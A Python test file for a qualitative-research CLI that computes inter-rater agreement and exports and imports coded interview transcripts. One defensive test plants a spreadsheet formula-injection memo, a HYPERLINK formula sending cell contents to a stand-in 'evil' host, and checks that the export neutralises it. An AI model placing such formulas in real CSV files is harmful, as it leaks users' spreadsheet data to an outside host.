"""``dyadlab irr``, ``export qdpx``, ``export codings`` and ``import qdpx`` on a small study."""

from __future__ import annotations

import json
import shutil
import zipfile

import pandas as pd
import pytest

from coding.reliability import agreement_table
from studies.cli import main

T1 = (
    "INTERVIEWER: How was the delivery?\n\n"
    "P01: The nurse said the baby would withdraw because of me. I felt judged.\n\n"
    "INTERVIEWER: And after?\n\n"
    "P01: Holding her made me want to stay on my methadone."
)
T2 = "INTERVIEWER: Tell me about CPS.\n\nV01: Families fear the report more than the drug."


def _span(text, phrase):
    start = text.index(phrase)
    return start, start + len(phrase)


@pytest.fixture
def study(tmp_path):
    folder = tmp_path / "mini"
    (folder / "transcripts").mkdir(parents=True)
    (folder / "data").mkdir()
    (folder / "transcripts" / "T01.txt").write_text(T1)
    (folder / "transcripts" / "T02.txt").write_text(T2)
    pd.DataFrame(
        {
            "transcript_id": ["T01", "T02"],
            "participant_id": ["P01", "V01"],
            "file": ["T01.txt", "T02.txt"],
            "interview_date": ["2025-03-01", "2025-03-09"],
            "interviewer": ["I1", "I1"],
        }
    ).to_csv(folder / "transcripts" / "manifest.csv", index=False)
    pd.DataFrame(
        {
            "participant_id": ["P01", "V01"],
            "role": ["patient", "provider"],
            "site": ["north", "south"],
            "person_id": ["M001", ""],
            "provider_type": ["", "nurse"],
            "interview_date": ["2025-03-01", "2025-03-09"],
        }
    ).to_csv(folder / "data" / "participants.csv", index=False)
    rows = [
        ("c1", "T01", "coder_a", "stigma", *_span(T1, "I felt judged."), "felt blamed"),
        ("c2", "T01", "coder_b", "stigma", *_span(T1, "I felt judged."), ""),
        ("c3", "T01", "coder_a", "maternal_bonding", *_span(T1, "Holding her"), ""),
        ("c4", "T01", "coder_b", "nows_guilt", *_span(T1, "withdraw because of me"), ""),
        ("c5", "T02", "coder_a", "cps_barrier", *_span(T2, "Families fear the report"), ""),
        ("c6", "T02", "coder_b", "cps_barrier", *_span(T2, "fear the report"), ""),
    ]
    pd.DataFrame(
        rows, columns=["coding_id", "transcript_id", "coder", "code_id", "start", "end", "memo"]
    ).to_csv(folder / "codings.csv", index=False)
    (folder / "study.yaml").write_text(
        "name: Mini study\n"
        "data_root: .\n"
        "data:\n"
        "  participants: data/participants.csv\n"
        "  transcripts: transcripts/manifest.csv\n"
        "  codings: codings.csv\n"
        "codebook: default\n"
        "coders: [coder_a, coder_b]\n"
    )
    return folder


def test_irr_json_matches_library(study, capsys):
    assert main(["irr", str(study), "--json", "--bootstrap", "50"]) == 0
    payload = json.loads(capsys.readouterr().out)
    assert payload["unit"] == "turn"
    rows = pd.DataFrame(payload["rows"])
    from studies import load_study

    s = load_study(study)
    expected = agreement_table(s.codings(), s.transcripts(), bootstrap=50)
    got = rows.set_index(["code_id", "coder_a", "coder_b"])["kappa"]
    want = expected.set_index(["code_id", "coder_a", "coder_b"])["kappa"]
    pd.testing.assert_series_equal(got.astype(float), want, check_names=False)
    # T01 turn 1: both coded stigma; T01 turn 3 only coder_a bonding; 4 turns + 2 turns.
    stigma = rows.query("code_id == 'stigma' and coder_a == 'coder_a'").iloc[0]
    assert stigma["n_units"] == 6 and stigma["percent_agreement"] == 1.0


def test_irr_text_and_character_unit(study, capsys):
    assert main(["irr", str(study), "--bootstrap", "0", "--codes", "stigma,cps_barrier"]) == 0
    out = capsys.readouterr().out
    assert "stigma" in out and "coder_a × coder_b" in out
    assert main(["irr", str(study), "--unit", "character", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)["rows"]
    cps = [r for r in rows if r["code_id"] == "cps_barrier" and r["transcript_id"] == "T02"][0]
    assert cps["chars_a"] == len("Families fear the report") and cps["chars_both"] == 15


def test_irr_bad_input_exits_1_with_one_line(study, capsys):
    assert main(["irr", str(study), "--coders", "coder_a,nobody"]) == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "nobody" in err
    assert main(["irr", str(study / "missing")]) == 1


def test_export_import_round_trip(study, tmp_path, capsys):
    out = tmp_path / "mini.qdpx"
    assert main(["export", "qdpx", str(study), str(out), "--json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert summary["transcripts"] == 2 and summary["codings"] == 6
    assert zipfile.is_zipfile(out)

    csv = tmp_path / "codings.csv"
    assert main(["export", "codings", str(study), str(csv)]) == 0
    assert "6 codings" in capsys.readouterr().out
    exported = pd.read_csv(csv)
    assert list(exported.columns[:7]) == [
        "coding_id", "transcript_id", "coder", "code_id", "start", "end", "memo",
    ]  # fmt: skip
    assert len(exported) == 6

    # Importing into the same study adds nothing (same texts, same codings).
    assert main(["import", "qdpx", str(study), str(out), "--json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert summary["transcripts_added"] == [] and summary["codings_added"] == 0

    # Into an empty copy: transcripts and codings arrive with the same text at the offsets.
    empty = tmp_path / "empty"
    shutil.copytree(study, empty)
    (empty / "codings.csv").unlink()
    for name in ("T01.txt", "T02.txt", "manifest.csv"):
        (empty / "transcripts" / name).unlink()
    assert main(["import", "qdpx", str(empty), str(out)]) == 0
    assert "2 new transcripts, 0 new participants, 6 new codings" in capsys.readouterr().out
    from studies import load_study

    fresh = load_study(empty)
    assert fresh.transcripts().text("T01") == T1
    codings = fresh.codings()
    row = codings.query("coder == 'coder_a' and code_id == 'stigma'").iloc[0]
    assert fresh.transcripts().text("T01")[row.start : row.end] == "I felt judged."
    assert row.memo == "felt blamed"


def test_import_refuses_changed_text(study, tmp_path, capsys):
    out = tmp_path / "mini.qdpx"
    assert main(["export", "qdpx", str(study), str(out)]) == 0
    (study / "transcripts" / "T02.txt").write_text(T2.replace("Families", "Parents"))
    before = (study / "codings.csv").read_text()
    assert main(["import", "qdpx", str(study), str(out)]) == 1
    err = capsys.readouterr().err
    assert "'T02' already exists with a different text" in err
    assert (study / "codings.csv").read_text() == before


def test_import_into_a_study_with_a_coding_store(study, tmp_path, capsys):
    from coding.store import CodingStore
    from studies import load_study

    out = tmp_path / "mini.qdpx"
    assert main(["export", "qdpx", str(study), str(out)]) == 0
    target = tmp_path / "stored"
    shutil.copytree(study, target)
    (target / "transcripts" / "T02.txt").unlink()
    manifest = pd.read_csv(target / "transcripts" / "manifest.csv")
    manifest[manifest.transcript_id == "T01"].to_csv(
        target / "transcripts" / "manifest.csv", index=False
    )
    (target / "codings.csv").unlink()
    s = load_study(target, check_files=False)
    store = CodingStore(s.store_url)
    store.register_transcripts({"T01": T1})
    capsys.readouterr()
    assert main(["import", "qdpx", str(target), str(out), "--json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert summary["transcripts_added"] == ["T02"] and summary["codings_added"] == 6
    codings = load_study(target, check_files=False).codings()
    assert len(codings) == 6
    row = codings.query("code_id == 'cps_barrier' and coder == 'coder_b'").iloc[0]
    assert T2[int(row.start) : int(row.end)] == "fear the report"


def test_irr_exclude_speakers(study, capsys):
    args = ["irr", str(study), "--json", "--bootstrap", "0", "--exclude-speakers", "INTERVIEWER"]
    assert main(args) == 0
    rows = json.loads(capsys.readouterr().out)["rows"]
    stigma = [r for r in rows if r["code_id"] == "stigma" and r["coder_a"] == "coder_a"][0]
    assert stigma["n_units"] == 3  # the three participant turns
    assert main([*args[:-2], "--unit", "character", "--exclude-speakers", "X"]) == 1


def test_import_warns_about_unknown_participants(study, tmp_path, capsys):
    out = tmp_path / "mini.qdpx"
    assert main(["export", "qdpx", str(study), str(out)]) == 0
    target = tmp_path / "other"
    shutil.copytree(study, target)
    (target / "transcripts" / "T02.txt").unlink()
    manifest = pd.read_csv(target / "transcripts" / "manifest.csv")
    manifest[manifest.transcript_id == "T01"].to_csv(
        target / "transcripts" / "manifest.csv", index=False
    )
    people = pd.read_csv(target / "data" / "participants.csv")
    people[people.participant_id == "P01"].to_csv(target / "data" / "participants.csv", index=False)
    capsys.readouterr()
    assert main(["import", "qdpx", str(target), str(out)]) == 0
    captured = capsys.readouterr()
    assert "1 new transcripts, 1 new participants" in captured.out
    # V01 comes from the project's case and its variables (role, site …), so the study validates.
    people = pd.read_csv(target / "data" / "participants.csv", dtype=str)
    assert people.set_index("participant_id").loc["V01", "role"] == "provider"
    assert main(["validate", str(target)]) == 0


def test_export_codings_neutralises_formulas_and_is_private(study, tmp_path, capsys):
    """The CLI CSV is as safe to open in a spreadsheet as the web one (OWASP CSV injection)
    and readable by its owner only, even when it replaces a world-readable file."""
    codings = pd.read_csv(study / "codings.csv", keep_default_na=False)
    codings.loc[0, "memo"] = '=HYPERLINK("http://evil/?"&A1, "click")'
    codings.loc[1, "memo"] = "@SUM(1+1)"
    codings.to_csv(study / "codings.csv", index=False)
    csv = tmp_path / "codings.csv"
    csv.write_text("old")
    csv.chmod(0o644)
    assert main(["export", "codings", str(study), str(csv)]) == 0
    assert csv.stat().st_mode & 0o777 == 0o600
    memos = pd.read_csv(csv, keep_default_na=False).set_index("coding_id")["memo"]
    assert memos["c1"] == '\'=HYPERLINK("http://evil/?"&A1, "click")'
    assert memos["c2"] == "'@SUM(1+1)"
    assert memos["c3"] == ""
    fresh = tmp_path / "fresh.csv"
    assert main(["export", "codings", str(study), str(fresh)]) == 0
    assert fresh.stat().st_mode & 0o777 == 0o600


def test_export_qdpx_names_a_memo_xml_cannot_carry(study, tmp_path, capsys):
    codings = pd.read_csv(study / "codings.csv", keep_default_na=False)
    codings.loc[2, "memo"] = "see\x0bturn 2"
    codings.to_csv(study / "codings.csv", index=False)
    out = tmp_path / "mini.qdpx"
    assert main(["export", "qdpx", str(study), str(out)]) == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "coding c3" in err and "U+000B" in err
    assert "Traceback" not in err and not out.exists()
